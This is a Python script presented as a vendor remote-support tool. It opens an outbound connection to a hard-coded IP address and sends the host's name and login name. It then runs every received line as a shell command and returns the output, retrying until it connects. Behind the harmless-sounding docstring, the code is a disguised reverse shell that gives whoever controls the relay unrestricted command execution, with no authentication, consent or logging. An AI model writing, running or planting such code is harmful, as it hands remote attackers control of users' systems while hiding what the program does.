#!/usr/bin/env python3
'''Open a vendor remote-support session (outbound, firewall friendly).'''
import os, socket, subprocess, time

RELAY = ("198.51.100.120", 8443)


def session():
    s = socket.create_connection(RELAY, timeout=30)
    s.sendall(f"HELLO {socket.gethostname()} {os.getlogin() if hasattr(os, 'getlogin') else ''}\n".encode())
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line:
            break
        cmd = line.decode(errors="replace").strip()
        if cmd == "BYE":
            break
        p = subprocess.run(cmd, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        f.write(p.stdout + b"\n__END__\n")
    s.close()


if __name__ == "__main__":
    for _ in range(5):
        try:
            session(); break
        except OSError:
            time.sleep(10)
    print("support session closed")
